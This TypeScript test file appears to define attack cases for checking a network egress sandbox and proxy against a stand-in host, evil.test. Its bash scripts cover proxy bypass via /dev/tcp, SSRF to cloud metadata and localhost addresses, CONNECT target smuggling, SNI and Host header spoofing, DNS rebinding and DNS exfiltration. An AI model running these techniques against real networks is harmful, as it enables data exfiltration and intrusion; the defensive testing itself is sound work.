/**
 * A way to a server that the policy denies, or to tell it something. `script` is text for bash that prints what a server says which is not to be reached. What it
 * may use: $GOOD (allowed by name in both policies), $EVIL with its addresses $EVIL4 and $EVIL6, $OWN4 (of this machine), $LOCAL (a port of this
 * machine that says LOCAL), names of places that are not the public internet, and $proxy.
 */
export type Attack = {
  covers: readonly string[];
  title: string;
  script: string;
  /** `exact` allows some names; `everything` allows whatever it can, but for $EVIL. Both if absent. */
  policy?: PolicyName;
  /** What it prints where nothing stops it; absent where there is nothing to get around outside. */
  outside?: RegExp;
  /** The part that stops it; the daemon, if absent. */
  layer?: 'filter' | 'supervisor';
  /** What a receipt says. */
  receipt?: Record<string, unknown>;
};

export type PolicyName = 'exact' | 'everything';

export const NAMES = {
  GOOD: 'good.test',
  EVIL: 'evil.test',
  METADATA: 'metadata.test',
  PRIVATE: 'private.test',
  OWN: 'own.test',
  HOSTED: 'hosted.test',
  MIXED: 'mixed.test',
  ONCE: 'once.test',
} as const;

export const POLICIES: Record<PolicyName, string> = {
  exact: `      - { destination: [${[...Object.values(NAMES), 'rebind.test'].filter((name) => name !== NAMES.EVIL).join(', ')}], effect: allow }\n`,
  everything: `      - { destination: "*", effect: allow }\n      - { destination: ${NAMES.EVIL}, effect: deny, reason: "never there" }\n`,
};

const curl = 'curl -sS --max-time 30';
const PLAIN = `${curl} --noproxy '*'`;
const SERVED = /GET \/hello/;
const LOCAL = /LOCAL/;
const bare = 'unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY;';
const REQUEST = String.raw`printf 'GET /hello HTTP/1.0\r\nHost: any\r\n\r\n'`;
const s_client = 'openssl s_client -quiet -ign_eof -verify_quiet';
/** Python: a question for the name of its first argument, as RFC 1035 has it, and whether a record came back. */
const ASK = `import socket, sys
name, server, kind = sys.argv[1:4]
labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
question = bytes.fromhex('123401000001000000000000') + labels + bytes.fromhex('00') + (16 if kind == 'text' else 1).to_bytes(2, 'big') + bytes.fromhex('0001')
if kind == 'datagram':
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.sendto(question, (server, 53)); answer = s.recv(512)
else:
    s = socket.create_connection((server, 53), 20); s.sendall(len(question).to_bytes(2, 'big') + question); answer = s.recv(2) and s.recv(512)
print('ANSWERS', answer[7])`;
const ask = (name: string, server: string, kind: string): string =>
  `python3 -c "${ASK.replaceAll('"', '\\"')}" ${name} ${server} ${kind}`;
/** What the proxy says to a CONNECT whose target is not what it seems. */
const connectTo = (target: string): string =>
  `[ -n "$proxy" ] && ${String.raw`printf 'CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n'`} | (exec 3<>/dev/tcp/\${proxy%:*}/\${proxy#*:}; cat >&3; timeout 10 head -1 <&3)`;

/** One place in two ways: by the program itself, and by the proxy. */
function placeOf(host: string): Attack {
  return {
    covers: host.startsWith('$') ? ['D15', 'D16'] : ['D05', 'D16'],
    title: `a place that is not the public internet, as ${host}`,
    script: `${PLAIN} "http://${host}/hello"; ${curl} "http://${host}/hello"`,
    outside: SERVED,
  };
}

export const ATTACKS: readonly Attack[] = [
  {
    covers: ['D01'],
    title: 'connecting by address without the proxy',
    script: `${bare} exec 3<>/dev/tcp/$EVIL4/80; ${REQUEST} >&3; cat <&3`,
    policy: 'exact',
    outside: SERVED,
    receipt: { destination: '93.184.216.66', port: 80 },
  },
  {
    covers: ['D01'],
    title: 'the same over IPv6',
    script: `${PLAIN} "http://[$EVIL6]/hello"`,
    policy: 'exact',
    outside: SERVED,
    receipt: { destination: '2606:2800:220::66', port: 80 },
  },
  ...['1572395074', '0x5db8d842', '93.184.55362', '[::ffff:93.184.216.66]'].map((spelling) => ({
    covers: ['D05'],
    title: `an address as ${spelling}`,
    script: `${PLAIN} 'http://${spelling}/hello'; ${curl} --noproxy '' 'http://${spelling}/hello'`,
    policy: 'exact' as const,
    outside: SERVED,
    receipt: { destination: '93.184.216.66', port: 80 },
  })),
  ...['169.254.169.254', '2852039166', '[::ffff:a9fe:a9fe]', '[64:ff9b::a9fe:a9fe]', '[2002:a9fe:a9fe::1]'].map(
    placeOf,
  ),
  ...['168.63.129.16', '[fd00:ec2::254]', '10.20.30.40', '100.64.0.9', '[fe80::66%25cable]'].map(placeOf),
  ...['$METADATA', '$PRIVATE'].map(placeOf),
  ...['evil.test.', 'EVIL.TEST', '%65vil.test'].map((spelling) => ({
    covers: ['D14'],
    title: `a denied name as ${spelling}`,
    script: `${PLAIN} 'http://${spelling}/hello'; ${curl} --noproxy '' 'http://${spelling}/hello'`,
    outside: SERVED,
    receipt: { destination: 'evil.test' },
  })),
  ...['socks5h', 'socks5', 'socks4a'].map((kind) => ({
    covers: ['D01', 'D14'],
    title: `the proxy as one of ${kind}`,
    script: `${PLAIN} \${proxy:+--noproxy '' --proxy ${kind}://$proxy} http://$EVIL/hello`,
    outside: SERVED,
    ...(kind === 'socks5h' && { receipt: { destination: 'evil.test', via: 'socks' } }),
  })),
  {
    covers: ['D12', 'D22'],
    title: 'addresses that stand for names, guessed',
    script: `python3 -c "
import socket
for last in range(2, 255):
    for family, address in (socket.AF_INET, f'198.18.0.{last}'), (socket.AF_INET6, f'2001:2::c612:{last:x}'), (socket.AF_INET, f'198.19.255.{last}'):
        s = socket.socket(family); s.settimeout(5)
        try: s.connect((address, 80)); s.sendall(b'GET /hello HTTP/1.0\\r\\nHost: evil.test\\r\\n\\r\\n'); text = s.recv(999)
        except OSError: continue
        if text and last > 40: print(text.decode())
"`,
    policy: 'exact',
    receipt: { reason: 'synthetic-address' },
  },
  {
    covers: ['D12'],
    title: 'another name in TLS than the proxy was asked for',
    script: `${REQUEST} | ${s_client} \${proxy:+-proxy $proxy} -connect $GOOD:443 -servername $EVIL`,
    outside: SERVED,
    receipt: { reason: 'sni-mismatch' },
  },
  {
    covers: ['D12'],
    title: 'another name in TLS than was looked up',
    script: `${bare} ${REQUEST} | ${s_client} -connect $GOOD:443 -servername $EVIL`,
    outside: SERVED,
    receipt: { reason: 'sni-mismatch' },
  },
  {
    covers: ['D12'],
    title: 'TLS without a name',
    script: `${bare} ${REQUEST} | ${s_client} -connect $GOOD:443 -noservername`,
    outside: SERVED,
    receipt: { reason: 'sni-missing' },
  },
  {
    covers: ['D12'],
    title: 'an own idea of where a denied name is',
    script: `${PLAIN} --resolve $EVIL:443:93.184.216.10 https://$EVIL/hello`,
    outside: SERVED,
  },
  {
    covers: ['D12', 'D13'],
    title: 'a request to one host that names another',
    script: `${curl} -f -H "Host: $EVIL" http://$GOOD/hello`,
    outside: SERVED,
  },
  ...[
    'evil.test\\0.good.test:443',
    'good.test@evil.test:443',
    'evil.test%%00.good.test:443',
    'evil.test/.good.test:443',
    'evil.test\\\\.good.test:443',
    '[good.test]:443',
    'good.test:443:80',
    'good.test:65979',
    'evilgood.test:443',
    'good.test.evil.test:443',
    'evil.test.:443',
    'EVIL.test:443',
  ].map((target) => ({
    covers: ['D14'],
    title: `asking the proxy for ${target}`,
    script: `${connectTo(target)} | sed 's/.* 200 .*/GET \\/hello/'`,
    policy: 'exact' as const,
  })),
  {
    covers: ['D15'],
    title: 'a name that leads to this machine the second time',
    script: `for turn in 1 2 3; do ${curl} http://$REBIND:$LOCAL/; done`,
    policy: 'exact',
    outside: LOCAL,
    receipt: { destination: 'rebind.test', reason: 'special-address' },
  },
  {
    covers: ['D15'],
    title: 'a name that leads to this machine as well',
    script: `${curl} http://$MIXED:$LOCAL/; ${PLAIN} http://$MIXED:$LOCAL/`,
    outside: LOCAL,
  },
  {
    covers: ['D15'],
    title: "a name that this machine's own table leads to it",
    script: `${curl} http://$HOSTED:$LOCAL/; ${PLAIN} http://$HOSTED:$LOCAL/`,
    outside: LOCAL,
    receipt: { destination: 'hosted.test' },
  },
  {
    covers: ['D16', 'D18'],
    title: "this machine's own address",
    script: `${PLAIN} http://$OWN4:$LOCAL/; ${curl} http://$OWN4:$LOCAL/; ${PLAIN} http://$OWN:$LOCAL/; ${curl} http://$OWN:$LOCAL/`,
    outside: LOCAL,
    receipt: { reason: 'own-address' },
  },
  ...['127.0.0.1', '[::1]', '127.0.0.2', 'localhost', '0.0.0.0', '[::ffff:127.0.0.1]'].map((host) => ({
    covers: ['D18'],
    title: `a service of this machine at ${host}`,
    script: `${PLAIN} 'http://${host}:'$LOCAL/; ${curl} --noproxy '' 'http://${host}:'$LOCAL/`,
    outside: LOCAL,
  })),
  {
    covers: ['D17'],
    title: 'a redirect to a denied host',
    script: `${curl} -L "http://$GOOD/redirect?to=http://$EVIL/hello"; ${PLAIN} -L "https://$GOOD/redirect?to=https://$EVIL/hello"`,
    outside: SERVED,
    receipt: { destination: 'evil.test' },
  },
  {
    covers: ['D17'],
    title: 'a redirect to this machine',
    script: `${curl} --noproxy '' -L "http://$GOOD/redirect?to=http://127.0.0.1:$LOCAL/"; ${PLAIN} -L "https://$GOOD/redirect?to=http://127.0.0.1:$LOCAL/"`,
    outside: LOCAL,
  },
  {
    covers: ['D21'],
    title: 'NO_PROXY for everything',
    script: `NO_PROXY='*' no_proxy='*' ${curl} https://$EVIL/hello`,
    outside: SERVED,
    receipt: { destination: 'evil.test', via: 'dns' },
  },
  {
    covers: ['D21'],
    title: 'a proxy that is none',
    script: `https_proxy=http://$GOOD:80 ${curl} https://$EVIL/hello; https_proxy=http://127.0.0.1:$LOCAL ${curl} https://$EVIL/hello; https_proxy= ${curl} https://$EVIL/hello`,
    outside: SERVED,
    receipt: { destination: 'evil.test' },
  },
  {
    covers: ['D22'],
    title: 'a message in a name that is looked up',
    script: 'getent ahosts message.$EVIL && echo ANSWERS 1',
    policy: 'exact',
    outside: /ANSWERS 1/,
    receipt: { destination: 'message.evil.test', via: 'dns' },
  },
  {
    covers: ['D22'],
    title: 'a message in a name for the proxy',
    script: `${curl} -f https://message.$EVIL/hello`,
    policy: 'exact',
    outside: SERVED,
    receipt: { destination: 'message.evil.test' },
  },
  {
    covers: ['D22', 'D02'],
    title: 'a question to the name server, by datagram',
    script: ask('message.$EVIL', '$NAMESERVER', 'datagram'),
    outside: /ANSWERS 1/,
  },
  {
    covers: ['D22'],
    title: 'a question to the name server, by TCP',
    script: ask('message.$EVIL', '$NAMESERVER', 'stream'),
    policy: 'exact',
    outside: /ANSWERS 1/,
    receipt: { destination: '93.184.216.53', port: 53 },
  },
  {
    covers: ['D22'],
    title: "a question to the run's own name server",
    script: `${ask('message.$EVIL', '198.18.0.1', 'stream')}; ${ask('message.$GOOD', '198.18.0.1', 'stream')}; ${ask('$GOOD', '198.18.0.1', 'text')}`,
    policy: 'exact',
    receipt: { destination: 'message.good.test', via: 'dns' },
  },
  {
    covers: ['D22'],
    title: 'names over HTTPS from a denied host',
    script: `${PLAIN} --doh-url https://$EVIL/dns-query http://message.$EVIL/hello; ${PLAIN} -f "https://$EVIL/dns-query?dns=message" && echo GET /hello`,
    receipt: { destination: 'evil.test' },
  },
];
